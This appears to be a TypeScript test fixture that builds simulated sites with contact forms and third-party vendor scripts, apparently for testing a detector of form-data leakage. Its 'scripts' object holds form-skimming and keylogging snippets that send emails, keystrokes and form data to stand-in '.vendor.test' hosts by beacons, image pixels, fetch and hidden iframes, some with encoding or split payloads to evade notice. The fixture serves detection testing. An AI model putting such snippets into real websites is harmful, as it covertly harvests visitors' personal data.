import { respond } from '../../fixtures/replica/exchange.js';
import type { Content, FieldSite } from '../e2e/field/field-site.js';

/** What a third party's script does beside a form; `V` is its own address. */
const scripts = {
  blur: `addEventListener('focusout', e => e.target.type === 'email' && e.target.value && navigator.sendBeacon(V + 'b', e.target.value))`,
  keys: `addEventListener('keydown', e => e.key.length === 1 && (new Image().src = V + 'k.gif?k=' + encodeURIComponent(e.key) + '&n=' + (window.count = (window.count || 0) + 1)))`,
  'two-parts': `addEventListener('change', e => { if (e.target.type !== 'email') return; const v = e.target.value, at = v.length >> 1;
    fetch(V + 'one', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ p: v.slice(0, at) }) });
    fetch(V + 'two', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ p: v.slice(at) }) }); })`,
  'submit-event': `addEventListener('submit', e => navigator.sendBeacon(V + 's', new URLSearchParams(new FormData(e.target))), true)`,
  debounced: `addEventListener('input', e => { clearTimeout(e.target.timer); e.target.timer = setTimeout(() => fetch(V + 'd?v=' + encodeURIComponent(e.target.value), { mode: 'no-cors' }), 1500) })`,
  base64: `addEventListener('change', e => new Image().src = V + 'i.gif?d=' + btoa(JSON.stringify({ [e.target.name]: e.target.value })))`,
  sha256: `addEventListener('change', async e => { if (e.target.type !== 'email') return;
    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value.trim().toLowerCase()));
    fetch(V + 'h?em=' + Array.from(new Uint8Array(hash), b => b.toString(16).padStart(2, '0')).join(''), { mode: 'no-cors' }) })`,
  pagehide: `addEventListener('pagehide', () => navigator.sendBeacon(V + 'p', document.querySelector('[type=email]').value))`,
  abandoned: `let sent = false; addEventListener('submit', () => sent = true, true);
    addEventListener('beforeunload', () => sent || navigator.sendBeacon(V + 'a', document.querySelector('[type=email]').value))`,
  'by-frame': `addEventListener('submit', () => { const f = document.createElement('iframe'); f.hidden = true;
    f.src = V + 'f?m=' + encodeURIComponent(document.querySelector('[type=email]').value); document.body.append(f) })`,
  'page-view': `fetch(V + 'view?p=' + encodeURIComponent(location.pathname), { mode: 'no-cors' })`,
  'counts-keys': `let n = 0; addEventListener('input', () => n += 1); addEventListener('pagehide', () => navigator.sendBeacon(V + 'c', JSON.stringify({ fields: 2, took: 'some', path: location.pathname })))`,
  'own-host': `addEventListener('change', e => navigator.sendBeacon('/kept', e.target.value))`,
  silent: `addEventListener('change', e => e.target.classList.add('touched'))`,
} as const;

/** What acts on the form of a page. */
export type Actor = keyof typeof scripts;

const host = 'www.every-form.test';
const script = (source: string) => respond('text/javascript', source);

export const contactForm = `<form method="post" action="/send"><p><label>Your e-mail <input type="email" name="email"></label></p>
  <p><label>Message <textarea name="message"></textarea></label></p><button>Send</button></form>`;

const page = (title: string, body: string): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><main><h1>${title}</h1>${body}</main></body></html>`;

/** A site of pages with equal forms; beside each stands a script of a third party of its own (`aNN.vendor.test`). */
export function formsSite(
  pages: readonly (readonly [path: string, actor: Actor, heading?: string])[],
): FieldSite {
  const contents: Record<string, Content> = {
    '/': page('Start', pages.map(([path]) => `<p><a href="${path}">${path}</a></p>`).join('')),
    '/send': page('Thank you', '<p>We have it.</p>'),
    '/kept': respond('text/plain', ''),
  };
  for (const [at, [path, actor, heading = `Page ${at}`]] of pages.entries()) {
    const vendor = `//a${String(at).padStart(2, '0')}.vendor.test/`;
    contents[path] = page(heading, `${contactForm}<script src="https:${vendor}t.js"></script>`);
    contents[`${vendor}t.js`] = script(`const V = 'https:${vendor}';\n${scripts[actor]}`);
  }
  return { name: 'every-form', style: '', host, domain: 'every-form.test', contents, expected: {} };
}

/** Pages of one template whose tag manager brings a recorder to the one with the number `tagged`. */
export function managedSite(count: number, tagged: number): FieldSite {
  const paths = Array.from({ length: count }, (_, at) => `/t${at}/`);
  const manager = `if (location.pathname === '/t${tagged}/') { const s = document.createElement('script'); s.src = 'https://tag.vendor.test/t.js'; document.head.append(s) }
    else { const s = document.createElement('script'); s.src = 'https://count.vendor.test/t.js'; document.head.append(s) }`;
  const contents: Record<string, Content> = {
    '/': page('Start', paths.map(path => `<p><a href="${path}">${path}</a></p>`).join('')),
    '/send': page('Thank you', '<p>We have it.</p>'),
    '/manager.js': script(manager),
    '//tag.vendor.test/t.js': script(`const V = 'https://tag.vendor.test/';\n${scripts.blur}`),
    '//count.vendor.test/t.js': script(`const V = 'https://count.vendor.test/';\n${scripts['page-view']}`),
  };
  for (const [at, path] of paths.entries())
    contents[path] = page(`Page ${at}`, `${contactForm}<script src="/manager.js"></script>`);
  return { name: 'managed', style: '', host, domain: 'every-form.test', contents, expected: {} };
}

/**
 * One form twice: in a page and at its foot, where a vendor listens; for wide screens and for narrow ones; beside a template of itself; and in
 * dialogs that buttons bring up, to one of which a vendor listens.
 */
export function twinSite(): FieldSite {
  const named = (id: string): string => contactForm.replace('<form ', `<form id="${id}" `);
  const vendor = 'https://listens.vendor.test/t.js';
  const button = '<p><button type="button" onclick="up()">Subscribe</button></p>';
  const upScript = `function up() { const d = document.createElement('dialog'); d.innerHTML = '<h2>Our letter</h2>' + document.querySelector('#shown').outerHTML.replace('shown', 'called');
    document.body.append(d); d.showModal(); }`;
  const listensInDialog = (vendor: string) =>
    script(
      `${upScript} addEventListener('change', e => e.target.closest('dialog') && navigator.sendBeacon('https://${vendor}/b', e.target.value))`,
    );
  const contents: Record<string, Content> = {
    '/': page(
      'Start',
      ['twins', 'copied', 'kept-away', 'pressed', 'covered', 'quiet']
        .map(path => `<p><a href="/${path}/">${path}</a></p>`)
        .join(''),
    ),
    '/send': page('Thank you', '<p>We have it.</p>'),
    '/twins/': page(
      'Twins',
      `<section><h2>Ask us</h2>${named('body-form')}</section><section><h2>Our letter</h2>${named('footer-form')}</section><script src="${vendor}"></script>`,
    ),
    '/copied/': page(
      'Copied',
      `<style>.narrow { display: none } @media (max-width: 700px) { .narrow { display: block } .wide { display: none } }</style>
       <div class="wide">${named('wide-form')}</div><div class="narrow">${named('narrow-form')}</div>`,
    ),
    '/kept-away/': page(
      'Kept away',
      `${named('shown-form')}<div style="display: none">${named('template-form')}</div>`,
    ),
    '/pressed/': page(
      'Pressed',
      `${named('shown')}${button}<script src="https://dialog.vendor.test/t.js"></script>`,
    ),
    // Nothing but the keyboard reaches the button.
    '/covered/': page(
      'Covered',
      `${named('shown')}${button}<div style="position: fixed; inset: 0"></div><script src="https://covered.vendor.test/t.js"></script>`,
    ),
    '/quiet/': page('Quiet', `${named('shown')}${button}<script>${upScript}</script>`),
    '//dialog.vendor.test/t.js': listensInDialog('dialog.vendor.test'),
    '//covered.vendor.test/t.js': listensInDialog('covered.vendor.test'),
    '//listens.vendor.test/t.js': script(
      `document.querySelector('#footer-form').addEventListener('change', e => navigator.sendBeacon('https://listens.vendor.test/b', e.target.value))`,
    ),
  };
  return { name: 'twins', style: '', host, domain: 'every-form.test', contents, expected: {} };
}
